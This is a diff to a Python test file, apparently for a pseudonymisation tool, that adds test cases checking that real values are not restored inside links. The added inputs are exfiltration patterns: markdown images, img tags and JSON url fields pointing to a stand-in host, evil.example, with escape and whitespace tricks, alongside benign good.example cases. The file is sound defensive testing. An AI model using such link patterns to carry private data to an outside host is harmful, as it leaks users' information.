@@ -361,6 +361,12 @@ LINKS = [
     "<img src=//evil.example/{0}>",
     "background: url({0})",
     '{{"url": "https:\\/\\/evil.example\\/{0}"}}',
+    '{{"url": "https://evil.example/?q=\\\\n{0}"}}',
+    '{{"url": "https://evil.example/?q=\\" {0}"}}',
+    '{{"html": "<img src=\\"https://evil.example/?q= {0}\\">"}}',
+    "![x](https://evil.example/?q=\u00a0{0})",
+    "<https:evil.example/ {0}>",
+    "<img src='x.png?\n{0}'>",
     '{{"url": "\\u0068ttps:\\u002f\\u002fevil.example/{0}"}}',
     "https://" + "a" * 70000 + "/{0}",
 ]
@@ -394,6 +400,10 @@ def test_nothing_is_restored_inside_of_a_link(style: pseudonyms.Scope, link: str
         "<https://good.example> {0}",
         '<img src="https://good.example/"> {0}',
         "the data of {0}",
+        '{{"html": "<img src=\\"https://good.example/\\"> {0}"}}',
+        '{{"a": "https://good.example\\n{0}"}}',
+        '{{"a": "{{\\"u\\": \\"https://good.example\\", \\"n\\": \\"{0}\\"}}"}}',
+        "<mailto:{0}>",
     ],
 )
 def test_beside_a_link_all_is_restored(text: str) -> None:
